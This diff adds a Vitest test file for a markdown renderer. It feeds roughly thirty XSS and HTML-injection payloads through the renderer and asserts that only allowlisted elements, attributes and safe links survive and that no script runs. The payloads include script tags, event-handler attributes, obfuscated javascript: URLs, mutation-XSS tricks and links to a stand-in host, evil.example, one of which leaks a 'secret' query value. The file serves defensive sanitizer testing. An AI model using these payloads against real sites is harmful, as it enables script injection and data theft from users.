@@ -1,0 +1,75 @@
+// @vitest-environment happy-dom
+
+import { describe, expect, test } from "vitest";
+import { Renderer } from "../../src/dom/render.js";
+import { parse } from "../../src/markdown/parse.js";
+
+const ATTACKS = [
+  "<script>window.hit = 1</script>",
+  "a <script>window.hit = 1</script> b",
+  "<img src=x onerror=window.hit=1>",
+  "<svg onload=window.hit=1>",
+  "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
+  "<a href=javascript:window.hit=1>x</a>",
+  "<style>*{display:none}</style>",
+  "<link rel=stylesheet href=https://evil.example/x.css>",
+  "<form action=https://evil.example><input name=q></form>",
+  "<base href=https://evil.example>",
+  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+  "<div id=location name=body style='position:fixed;inset:0'>x</div>",
+  "[x](javascript:window.hit=1)",
+  "[x](JaVa\tScRiPt:window.hit=1)",
+  "[x](&#106;avascript:window.hit=1)",
+  "[x](data:text/html;base64,PHNjcmlwdD4=)",
+  "[x](vbscript:window.hit)",
+  '[x](https://ok.example "\\" onmouseover=\\"window.hit=1")',
+  '[x](https://ok.example/"onmouseover="window.hit=1)',
+  '<https://ok.example/"onmouseover=window.hit=1>',
+  "![x](https://evil.example/?q=secret)",
+  '![" onerror="window.hit=1](https://evil.example/x)',
+  "![x](javascript:window.hit=1)",
+  "![x](data:image/svg+xml,<svg onload=window.hit=1>)",
+  '```"><script>window.hit=1</script>\nx\n```',
+  "```html\n<script>window.hit=1</script>\n```",
+  "| <script>window.hit=1</script> |\n|---|\n| <img src=x onerror=window.hit=1> |",
+  "- [ ] <input onfocus=window.hit=1 autofocus>",
+  "[^x]\n\n[^x]: <script>window.hit=1</script>",
+  '[^"><img src=x onerror=window.hit=1>]\n\n[^"><img src=x onerror=window.hit=1>]: x',
+  "[x]: javascript:window.hit=1\n\n[x]",
+  "<!--><script>window.hit=1</script>-->",
+  "<![CDATA[<script>window.hit=1</script>]]>",
+  "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
+];
+
+const ELEMENTS = new Set(
+  "A BLOCKQUOTE BR BUTTON CODE DEL DIV EM H1 H2 H3 H4 H5 H6 HR INPUT LI OL P PRE SECTION SPAN STRONG SUP TABLE TBODY TD TH THEAD TR UL".split(
+    " ",
+  ),
+);
+
+const ATTRIBUTES = new Set(
+  "aria-label class checked data-align data-language data-task data-tight data-tip dir disabled href id rel start tabindex target title type".split(
+    " ",
+  ),
+);
+
+describe.each(ATTACKS)("%s", (attack) => {
+  test.each([attack, `before\n\n${attack}\n\nafter`, `> - ${attack}`, attack.slice(0, -1)])(
+    "in %j is harmless",
+    (markdown) => {
+      const root = document.createElement("div");
+      document.body.replaceChildren(root);
+      const renderer = new Renderer(root, "view");
+      renderer.update(parse(markdown));
+      for (const element of root.querySelectorAll("*")) {
+        expect(ELEMENTS, element.outerHTML).toContain(element.tagName);
+        for (const attribute of element.getAttributeNames()) expect(ATTRIBUTES, element.outerHTML).toContain(attribute);
+        const href = element.getAttribute("href");
+        if (href !== null) expect(href).toMatch(/^(https?:\/\/|mailto:|#view-|[^:]*$)/);
+        const id = element.getAttribute("id");
+        if (id !== null) expect(id).toMatch(/^view-/);
+      }
+      expect("hit" in window).toBe(false);
+    },
+  );
+});
